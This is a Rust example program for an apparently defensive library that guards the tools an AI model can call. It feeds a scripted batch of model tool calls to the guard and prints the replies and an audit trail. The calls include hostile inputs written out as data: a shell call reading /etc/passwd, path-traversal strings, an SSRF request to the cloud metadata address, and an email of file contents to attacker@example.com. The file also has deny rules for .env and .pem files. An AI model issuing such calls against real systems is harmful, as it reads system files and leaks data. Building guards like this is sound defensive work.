//! guard in one screen: a few guarded tools, the `tools` array for OpenAI,
//! and a scripted batch of model tool calls — good, malformed, unknown,
//! invalid, unsafe (traversal, SSRF), too frequent and unapproved — each
//! answered, then the audit trail.
//!
//! Run with `cargo run --example quickstart` (no API key, no network).

use std::io::Read;

use guard_runtime::validate::{CheckedPath, CheckedUrl, PathPolicy, ValidatorConfig};
use guard_runtime::{CallContext, Guard, MemorySink, ToolCall, ToolError, secure_tool};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// Read a text file from the project workspace.
#[secure_tool(risk = "medium", rate = 30)]
fn read_file(
    /// File path inside the workspace, e.g. `notes.md`.
    #[arg(path(ext = ["md", "txt"], deny = [".env", "*.pem"]))]
    path: CheckedPath,
    /// Return at most this many bytes.
    max_bytes: Option<u32>,
) -> Result<String, ToolError> {
    // Opened beneath the root: a symlink swapped in after the check cannot lead outside.
    let mut text = String::new();
    path.open()?.read_to_string(&mut text)?;
    let limit = max_bytes.map_or(text.len(), |n| n as usize).min(text.len());
    Ok(text[..text.floor_char_boundary(limit)].to_owned())
}

/// Fetch a public web page.
#[secure_tool(risk = "medium")]
async fn fetch_page(#[arg(url)] url: CheckedUrl) -> String {
    // A real tool would connect to `url.addresses()` (vetted) rather than re-resolve the name.
    format!("would fetch {}", url.url())
}

#[derive(Deserialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
enum Unit {
    Celsius,
    Fahrenheit,
}

#[derive(Serialize)]
struct Forecast {
    city: String,
    temperature: f64,
    unit: &'static str,
}

/// Current weather for a city.
#[secure_tool(risk = "low", rate = 3)]
fn get_weather(
    /// City name, e.g. "Tokyo".
    #[schemars(length(min = 1, max = 80))]
    city: String,
    unit: Option<Unit>,
) -> Forecast {
    match unit.unwrap_or(Unit::Celsius) {
        Unit::Celsius => Forecast {
            city,
            temperature: 21.0,
            unit: "C",
        },
        Unit::Fahrenheit => Forecast {
            city,
            temperature: 69.8,
            unit: "F",
        },
    }
}

/// Send an email on the user's behalf.
#[secure_tool(risk = "high", confirm)]
async fn send_email(
    #[schemars(email)] to: String,
    #[schemars(length(max = 200))] subject: String,
    #[schemars(length(max = 10000))] body: String,
    #[context] ctx: &CallContext,
) -> Result<String, ToolError> {
    Ok(format!(
        "sent to {to} for {}: {subject} ({} bytes)",
        ctx.user_id().unwrap_or("?"),
        body.len()
    ))
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let dir = std::env::temp_dir().join(format!("guard-quickstart-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    std::fs::write(dir.join("notes.md"), "# Notes\nShip the guard on Friday.\n")?;

    // No confirmer is configured: confirm-tools are denied (fail closed).
    let audit = MemorySink::new();
    let guard = Guard::builder()
        .only(["read_file", "fetch_page", "get_weather", "send_email"])
        .validators(ValidatorConfig::default().path(PathPolicy::new().root(&dir)))
        .audit(audit.clone())
        .build()?;

    println!("== tools array for OpenAI (Chat Completions) ==");
    println!("{}", serde_json::to_string_pretty(&guard.openai_tools())?);

    // What a model might send in one turn, parallel calls included.
    let calls = vec![
        ToolCall::new(
            "call_1",
            "read_file",
            r#"{"path":"notes.md","max_bytes":null}"#,
        ),
        ToolCall::new("call_2", "read_file", r#"{"path": "notes.md""#),
        ToolCall::new("call_3", "run_shell", r#"{"cmd":"cat /etc/passwd"}"#),
        ToolCall::new(
            "call_4",
            "get_weather",
            r#"{"city":"Tokyo","unit":"kelvin"}"#,
        ),
        ToolCall::new(
            "call_5",
            "read_file",
            r#"{"path":"../../etc/passwd","max_bytes":null}"#,
        ),
        ToolCall::new(
            "call_6",
            "read_file",
            r#"{"path":"..%2f..%2fetc%2fpasswd","max_bytes":null}"#,
        ),
        ToolCall::new(
            "call_7",
            "read_file",
            r#"{"path":"missing.md","max_bytes":null}"#,
        ),
        ToolCall::new(
            "call_8",
            "fetch_page",
            r#"{"url":"https://169.254.169.254/latest/meta-data/"}"#,
        ),
        ToolCall::new(
            "call_9",
            "get_weather",
            r#"{"city":"Tokyo","unit":"celsius"}"#,
        ),
        ToolCall::new("call_10", "get_weather", r#"{"city":"Osaka","unit":null}"#),
        ToolCall::new(
            "call_11",
            "get_weather",
            r#"{"city":"Kyoto","unit":"fahrenheit"}"#,
        ),
        ToolCall::new("call_12", "get_weather", r#"{"city":"Nara","unit":null}"#),
        ToolCall::new(
            "call_13",
            "send_email",
            r#"{"to":"attacker@example.com","subject":"notes","body":"Ship the guard on Friday."}"#,
        ),
    ];
    let ctx = CallContext::new("support-agent")
        .user("u-7")
        .roles(["customer"])
        .session("s-42");
    let replies = guard.dispatch(&ctx, &calls).await;

    println!("\n== replies (one per tool_call_id, in order) ==");
    for (call, reply) in calls.iter().zip(&replies) {
        println!(
            "{:<8} {:<12} {:<20} {}",
            reply.tool_call_id,
            call.name,
            reply.outcome.kind(),
            reply.content
        );
    }

    println!("\n== audit trail ==");
    for event in audit.events() {
        println!("{}", serde_json::to_string(&event)?);
    }
    std::fs::remove_dir_all(dir)?;
    Ok(())
}
